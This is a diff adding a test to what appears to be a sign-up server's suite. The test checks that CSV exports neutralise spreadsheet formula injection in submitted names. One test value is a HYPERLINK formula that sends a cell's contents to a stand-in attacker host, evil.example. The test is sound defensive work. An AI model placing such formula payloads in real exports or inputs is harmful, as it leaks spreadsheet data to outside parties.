@@ -175,3 +175,20 @@ def test_a_sign_up_does_not_change_a_reader_on_file(demo, server_factory, named)
         assert after[key] == before[key], (key, before, after)
     assert after["name"] == ("Ada Lovelace" if named else "")
     assert after["timezone"] == "Asia/Tokyo"
+
+
+# --- defect 8: CSV formula injection -------------------------------------------------------
+
+
+def test_export_neutralises_formulas_in_names(demo, server_factory):
+    s = server_factory(demo, FAST_ROBOT)
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    names = {new_address("f"): formula, new_address("p"): "+1 555", new_address("m"): "-x",
+             new_address("a"): "@SUM(A1)", new_address("ok"): "Ada Lovelace"}
+    for address, name in names.items():
+        r = post_from(s, "127.0.10.1", good_body(s, email=address, name=name))
+        assert r.status == 202, r
+    rows = {r["email"]: r["name"] for r in export_rows(demo)}
+    for address, name in names.items():
+        expected = name if name == "Ada Lovelace" else "'" + name
+        assert rows[address] == expected, (address, rows[address])
